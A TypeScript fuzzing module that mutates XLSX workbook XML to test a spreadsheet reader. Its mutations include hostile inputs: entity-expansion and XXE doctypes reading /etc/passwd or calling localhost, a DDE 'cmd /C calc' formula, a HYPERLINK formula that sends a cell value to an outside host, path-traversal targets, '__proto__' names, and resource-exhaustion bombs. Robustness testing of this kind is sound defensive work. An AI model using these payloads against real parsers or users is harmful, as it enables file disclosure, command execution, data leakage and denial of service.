import { type BookChange, inParts, isShared, isSheet, isXml, ofOnePart, replaceOne } from './change.ts'
import type { Dice } from './dice.ts'

/** In one part of XML, whichever. */
const inXml = (name: string, change: (text: string, dice: Dice) => string | Buffer): BookChange =>
  ofOnePart(name, (part, dice) =>
    isXml(part) && typeof part.body === 'string' ? { ...part, body: change(part.body, dice) } : part,
  )
const inSheet = (name: string, change: (text: string, dice: Dice) => string): BookChange =>
  inParts(name, isSheet, change)

/** Behind one of the tags, so that what is put in stands where text, elements or rows stand. */
const put = (text: string, dice: Dice, more: string): string => replaceOne(text, />/g, dice, (end) => end + more)
const elements = (text: string): string => text.replace(/^<\?xml[^>]*\?>/, '')

const strangeNumbers = [
  '-1',
  '0',
  '59',
  '60',
  '61',
  '1.5',
  '1e15',
  '1e308',
  '1e-400',
  'NaN',
  'Infinity',
  '0x10',
  '',
  ' ',
  '١٢',
  '9007199254740993',
  '2958465',
  '99999999999',
]
const strangeCells = [
  'XFD1',
  'XFE1',
  'ZZZZ1',
  'A0',
  'A1048577',
  'a1',
  'A',
  '1',
  '$A$1',
  'A1:B2',
  'BI1',
  'BH1',
  '',
  'A1\n',
  'Á1',
  'A9999999',
]
const strangeRows = [
  '0',
  '-1',
  '1.5',
  '1048576',
  '1048577',
  '2147483648',
  '9007199254740991',
  '1e3',
  'abc',
  '',
  ' 7 ',
  '0x10',
]
const strangeTexts = [
  '&#0;',
  '&#xD800;',
  '&#xFFFE;',
  '&#x110000;',
  '&#x202E;',
  '&#10;',
  '&x;',
  '&amp',
  '<',
  ']]>',
  '\u0000',
  '\u0001',
  '\uFFFF',
  '_x0000_',
  '=cmd|&apos; /C calc&apos;!A0',
  '\ud83d',
]

/** What is no longer what somebody wrote; whatever comes out of it, it is an answer. */
export const xmlHurts: BookChange[] = [
  inXml('entities', (text, dice) =>
    dice.pick([
      `<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c "&d;&d;"><!ENTITY d "ddd">]>${put(elements(text), dice, '&b;')}`,
      `<!DOCTYPE a SYSTEM "file:///etc/passwd">${elements(text)}`,
      `<!DOCTYPE a [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x"> %p;]>${elements(text)}`,
    ]),
  ),
  inXml('depth', (text, dice) => {
    const deep = dice.pick([30, 63, 64, 1_000, 100_000])
    return put(text, dice, '<a>'.repeat(deep) + '</a>'.repeat(deep))
  }),
  inXml('a crowd of attributes', (text, dice) => {
    const many = Array.from({ length: dice.pick([31, 40, 1_000, 50_000]) }, (_, at) => `a${at}="1"`)
    return put(text, dice, `<a ${many.join(' ')}/>`)
  }),
  inXml('a huge attribute', (text, dice) =>
    put(text, dice, `<a b="${'x'.repeat(dice.pick([10_000, 1_000_000, 20_000_000]))}"/>`),
  ),
  inXml('a huge name', (text, dice) => put(text, dice, `<${'x'.repeat(dice.pick([10_000, 1_000_000]))}/>`)),
  inXml('a huge remark', (text, dice) =>
    put(text, dice, `<!--${'x'.repeat(dice.pick([10_000, 5_000_000, 20_000_000]))}-->`),
  ),
  inXml('a huge CDATA', (text, dice) =>
    put(text, dice, `<![CDATA[${'x'.repeat(dice.pick([31_000, 5_000_000, 20_000_000]))}]]>`),
  ),
  inXml('a huge text', (text, dice) => put(text, dice, 'đ'.repeat(dice.pick([31_000, 33_000, 5_000_000, 20_000_000])))),
  inXml('a huge instruction', (text, dice) => put(text, dice, `<?a ${'x'.repeat(dice.pick([10_000, 20_000_000]))}?>`)),
  inXml('a strange letter', (text, dice) => put(text, dice, dice.pick(strangeTexts))),
  inXml('another encoding than it says', (text, dice) =>
    Buffer.from(
      text.replace('UTF-8', dice.pick(['windows-1258', 'UTF-16', 'UTF-7', 'nothing'])),
      dice.pick(['utf8', 'latin1', 'utf16le']),
    ),
  ),
  inXml('bytes that are no letters', (text, dice) => {
    const bytes = Buffer.from(text)
    for (let left = 1 + dice.under(5); left > 0; left--)
      bytes[dice.under(bytes.length)] = dice.pick([0xff, 0xc0, 0x80, 0xf5, 0])
    return bytes
  }),
  inXml('cut short', (text, dice) => text.slice(0, dice.under(text.length))),
  inXml('a piece lost', (text, dice) => {
    const from = dice.under(text.length)
    return text.slice(0, from) + text.slice(from + 1 + dice.under(200))
  }),
  inXml('a piece twice', (text, dice) => {
    const from = dice.under(text.length)
    const to = from + 1 + dice.under(500)
    return text.slice(0, to) + text.slice(from, to) + text.slice(to)
  }),
  inXml('a letter turned', (text, dice) => {
    const at = dice.under(text.length)
    return text.slice(0, at) + String.fromCharCode(32 + dice.under(95)) + text.slice(at + 1)
  }),
  inXml('an element twice', (text, dice) =>
    replaceOne(text, /<\w+[^<>]*\/>|<(\w+)[^<>]*>[^<>]*<\/\1>/g, dice, (one) => one + one),
  ),
  inXml('an element of another name', (text, dice) =>
    replaceOne(
      text,
      /<\w+/g,
      dice,
      () => `<${dice.pick(['c', 'v', 'row', 'si', 't', 'sheet', 'f', 'is', '__proto__', 'x:c'])}`,
    ),
  ),
  inXml('an attribute lost', (text, dice) => replaceOne(text, / [\w:]+="[^"]*"/g, dice, () => '')),
  inXml('an attribute of another value', (text, dice) =>
    replaceOne(text, /="[^"<]*"/g, dice, () => `="${dice.pick([...strangeNumbers, ...strangeCells])}"`),
  ),
  inSheet('texts that are not there', (text, dice) =>
    replaceOne(text, /t="s"><v>\d+/g, dice, () => `t="s"><v>${dice.pick(strangeNumbers)}`),
  ),
  inSheet('strange numbers', (text, dice) =>
    replaceOne(text, /<v>[^<]*<\/v>/g, dice, () => `<v>${dice.pick(strangeNumbers)}</v>`),
  ),
  inSheet('strange kinds of cells', (text, dice) =>
    replaceOne(
      text,
      /<c r="[A-Z]+\d+"/g,
      dice,
      (c) => `${c} t="${dice.pick(['s', 'str', 'b', 'e', 'd', 'n', 'z', '', 'inlineStr'])}"`,
    ),
  ),
  inSheet('strange styles', (text, dice) => text.replaceAll(/ s="\d+"/g, () => ` s="${dice.pick(strangeNumbers)}"`)),
  inSheet('cells elsewhere', (text, dice) =>
    replaceOne(text, /<c r="[A-Z]+\d+"/g, dice, () => `<c r="${dice.pick(strangeCells)}"`),
  ),
  inSheet('rows elsewhere', (text, dice) =>
    replaceOne(text, /<row r="\d+"/g, dice, () => `<row r="${dice.pick(strangeRows)}"`),
  ),
  inSheet('the last row elsewhere', (text, dice) => {
    const at = text.lastIndexOf('<row r="')
    return text.slice(0, at) + text.slice(at).replace(/<row r="\d+"/, `<row r="${dice.pick(strangeRows)}"`)
  }),
  inSheet('a cell in a cell', (text, dice) => replaceOne(text, /<v>/g, dice, (v) => `<c r="B2"><v>1</v></c>${v}`)),
  inSheet('a row in a row', (text, dice) =>
    replaceOne(text, /<c /g, dice, (c) => `<row r="9999"><c r="A9999"><v>7</v></c></row>${c}`),
  ),
  inSheet('a formula without a value', (text, dice) =>
    replaceOne(text, /<v>\d+<\/v>/g, dice, () => '<f>HYPERLINK("http://x.vn/"&amp;A1)</f>'),
  ),
  inSheet('a wide row', (text, dice) => {
    const cells = Array.from({ length: dice.pick([61, 16_384, 200_000]) }, () => '<c><v>1</v></c>')
    return text.replace('</sheetData>', `<row r="900000">${cells.join('')}</row></sheetData>`)
  }),
  inSheet('tens of thousands of rows', (text, dice) => {
    const many = dice.pick([49_000, 51_000, 120_000])
    return text.replace(
      '</sheetData>',
      `${'<row><c><v>1</v></c><c t="str"><v>Phủ Lý</v></c><c><v>7</v></c></row>'.repeat(many)}</sheetData>`,
    )
  }),
  inSheet('a head full of words', (text, dice) => {
    const cell = `<c t="str"><v>${'Đơn vị '.repeat(dice.pick([2, 40, 4_000]))}</v></c>`
    return text.replace('<sheetData>', `<sheetData>${`<row>${cell.repeat(60)}</row>`.repeat(dice.pick([1, 10, 20]))}`)
  }),
  inSheet('a bomb of blanks', (text, dice) =>
    text.replace(
      '</sheetData>',
      `${' '.repeat(dice.pick([1_000_000, 20_000_000, 59_000_000, 70_000_000]))}</sheetData>`,
    ),
  ),
  inSheet('ranges that are none', (text, dice) =>
    text.replace('</worksheet>', `<mergeCells><mergeCell ref="${dice.pick(strangeCells)}"/></mergeCells></worksheet>`),
  ),
  inParts('a million texts', isShared, (text, dice) =>
    text.replace('</sst>', `${'<si><t>x</t></si>'.repeat(dice.pick([1_000, 100_000, 1_000_000]))}</sst>`),
  ),
  inParts('texts as long as they may be', isShared, (text, dice) =>
    text.replace('</sst>', `${`<si><t>${'đ'.repeat(31_000)}</t></si>`.repeat(dice.pick([10, 200, 300]))}</sst>`),
  ),
  inParts(
    'years of the other Excel',
    ({ name }) => name === 'xl/workbook.xml',
    (text, dice) =>
      text
        .replace(/<workbookPr[^>]*\/>/, '')
        .replace('<sheets>', `<workbookPr date1904="${dice.pick(['1', 'true', '0', 'x'])}"/><sheets>`),
  ),
  inParts(
    'hundreds of sheets',
    ({ name }) => name === 'xl/workbook.xml',
    (text, dice) =>
      text.replace(
        '<sheets>',
        `<sheets>${`<sheet name="${'Biểu '.repeat(dice.pick([1, 500]))}" sheetId="1" r:id="rId1"/>`.repeat(dice.pick([1, 19, 250, 20_000]))}`,
      ),
  ),
  inParts(
    'a strange name of a sheet',
    ({ name }) => name === 'xl/workbook.xml',
    (text, dice) =>
      text.replaceAll(
        / name="[^"]*"/g,
        ` name="${dice.pick(['', '&#10;&#13;', '&#x202E;x', '{at}', '&lt;script&gt;', 'x'.repeat(5_000), '&#xFFFD;', '__proto__'])}"`,
      ),
  ),
  inParts(
    'targets elsewhere',
    ({ name }) => name.endsWith('.rels'),
    (text, dice) =>
      text.replaceAll(
        /Target="[^"]*"/g,
        `Target="${dice.pick(['../../../../etc/passwd', 'http://127.0.0.1:9/', 'workbook.xml', '', '/', 'sharedStrings.xml', '__proto__', 'styles.xml'])}"`,
      ),
  ),
  inParts(
    'strange formats',
    ({ name }) => name === 'xl/styles.xml',
    (text, dice) =>
      text
        .replaceAll(
          /formatCode="[^"]*"/g,
          `formatCode="${dice.pick(['[', '[[[[[[[[', '&quot;'.repeat(200), '\\'.repeat(255), 'y'.repeat(100_000), '[d'.repeat(120), 'General'])}"`,
        )
        .replace('<cellXfs>', `<cellXfs>${'<xf numFmtId="14"/>'.repeat(dice.pick([0, 1, 100_000]))}`),
  ),
]
